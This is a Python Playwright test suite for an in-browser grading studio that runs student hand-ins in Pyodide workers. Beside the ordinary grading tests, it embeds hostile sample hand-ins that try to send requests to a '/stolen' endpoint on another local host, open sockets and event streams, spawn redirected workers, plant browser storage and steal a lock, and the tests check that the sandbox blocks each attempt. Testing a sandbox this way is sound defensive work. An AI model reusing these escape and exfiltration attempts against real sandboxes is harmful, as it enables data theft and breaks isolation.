"""Hand-ins graded in the tab: right ones and wrong ones, one that never ends, one that reaches for the network."""

import re
import shutil
from pathlib import Path

import pytest
from playwright.sync_api import expect

from .hosting import Host
from .visitor import SCREENS, assert_graded, assert_ready, hand_in

HAND_INS = Path(__file__).parents[4] / "examples" / "hand-ins"
RIGHT = HAND_INS / "othello-6" / "right.py"

BREAKING = """
from js import setTimeout
from pyodide.ffi import create_once_callable

setTimeout(create_once_callable(lambda: 1 / 0), 0)
"""

REACHING = """
from js import XMLHttpRequest

for address in ("http://localhost:{port}/stolen", "http://127.0.0.1:{port}/stolen"):
    try:
        asked = XMLHttpRequest.new()
        asked.open("GET", address, False)
        asked.send()
    except Exception as error:
        print(error)
"""

ESCAPING = """
import js
from pyodide.ffi import create_once_callable, to_js

OTHER = "http://localhost:{port}/stolen"


def as_object(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)


def further_workers():
    \"""Workers that are loaded from the site's own address, which sends no policy, told to begin elsewhere.\"""
    for file in js.performance.getEntriesByType("resource"):
        if file.name.endswith(".js"):
            worker = js.Worker.new(file.name, as_object(type="module"))
            worker.postMessage(as_object(base=OTHER, files=as_object(), later=[], helps=True))


for way in (
    lambda: js.fetch(OTHER),
    lambda: js.WebSocket.new(OTHER.replace("http", "ws")),
    lambda: js.EventSource.new(OTHER),
    further_workers,
    lambda: js.caches.open("planted"),
    lambda: js.indexedDB.open("planted"),
    lambda: js.navigator.storage.getDirectory().then(
        lambda folder: folder.getFileHandle("planted", as_object(create=True))
    ),
    lambda: js.navigator.locks.request("library", as_object(steal=True), create_once_callable(print)),
):
    try:
        way()
    except Exception as error:
        print(error)
"""
HELD = "async () => (await navigator.locks.query()).held.map((one) => one.name)"
PLANTED = """async () => [
  ...(await caches.keys()),
  ...(await indexedDB.databases()).map((one) => one.name),
  ...(await Array.fromAsync((await navigator.storage.getDirectory()).keys())),
].filter((name) => name === "planted")"""


@pytest.mark.parametrize(
    ("assignment", "place", "right"),
    [
        ("othello-6", "othello-6/forgets_the_last_row.py", False),
        ("water-sort", "water-sort/right.py", True),
        ("water-sort", "water-sort/forgets_g.py", False),
        ("card-sort", "card-sort/right/a_star.py", True),
        ("card-sort", "card-sort/estimates_double", False),
        ("hand-of-the-king", "hand-of-the-king/right_agent.py", True),
        ("hand-of-the-king", "hand-of-the-king/forgets_banners_agent.py", False),
    ],
)
def test_a_hand_in_is_graded(visit, tmp_path, assignment, place, right):
    file = HAND_INS / place
    if file.is_dir():
        file = Path(shutil.make_archive(str(tmp_path / file.name), "zip", file))
    page = visit()
    hand_in(page, file, assignment)
    assert_graded(page)
    points, of = re.search(r"([\d.]+) of ([\d.]+) points", page.raw.locator("main").inner_text()).groups()
    assert 0 < float(points) <= float(of)
    assert (points == of) == right


@SCREENS
def test_a_hand_in_that_needs_numpy_is_told_so(visit, language, theme, width):
    page = visit(language=language, theme=theme, width=width)
    hand_in(page, HAND_INS / "2048" / "right" / "expectimax.py", "2048")
    assert_graded(page)
    told = page.raw.locator("main").inner_text()
    assert "numpy" in told
    assert ("browser" if language == "en" else "مرورگر") in told


@SCREENS
@pytest.mark.parametrize("moment", [0, 500, 20_000], ids=["at once", "while it is read", "in the middle"])
def test_a_hand_in_that_never_ends_is_ended_at_any_moment(visit, tmp_path, language, theme, width, moment):
    endless = tmp_path / "endless.py"
    endless.write_text(RIGHT.read_text("utf-8") + "\n\nwhile True:\n    pass\n", "utf-8")
    page = visit(language=language, theme=theme, width=width)
    hand_in(page, endless)
    stop = page.raw.locator("main header button.button")
    expect(stop).to_be_visible()
    page.raw.wait_for_timeout(moment)
    stop.click()
    page.until("() => location.hash === '#/classroom'")
    hand_in(page, RIGHT)
    assert_graded(page)
    assert "✗" not in page.raw.locator("main").inner_text()


def test_a_hand_in_that_breaks_its_worker_does_not_break_the_studio(visit, tmp_path):
    file = tmp_path / "breaking.py"
    file.write_text(BREAKING + RIGHT.read_text("utf-8"), "utf-8")
    page = visit()
    hand_in(page, file)
    assert_graded(page)
    hand_in(page, RIGHT)
    assert_graded(page)
    assert_ready(page)
    assert "30 of 30 points" in page.raw.locator("main").inner_text()


def test_a_hand_in_reaches_no_other_host(visit, tmp_path):
    with Host(tmp_path) as other:
        file = tmp_path / "reaching.py"
        file.write_text(REACHING.format(port=other.server_port) + RIGHT.read_text("utf-8"), "utf-8")
        page = visit()
        hand_in(page, file)
        page.until("() => /[✓✗]/.test(document.querySelector('main').innerText)")
        assert len(visit.complaints) == 2, "it has tried both addresses"
        assert other.asked == [], "and the browser has let neither through"
        visit.complaints.clear()


def test_a_hand_in_finds_no_way_around_the_wall_and_leaves_nothing_behind(visit, tmp_path):
    with Host(tmp_path) as other:
        file = tmp_path / "escaping.py"
        file.write_text(ESCAPING.format(port=other.server_port) + RIGHT.read_text("utf-8"), "utf-8")
        page = visit()
        hand_in(page, file)
        assert_graded(page)
        assert other.asked == []
        assert page.raw.evaluate(PLANTED) == []
        assert page.raw.evaluate(HELD) == ["library"], "it is the page's own"
        visit.complaints.clear()
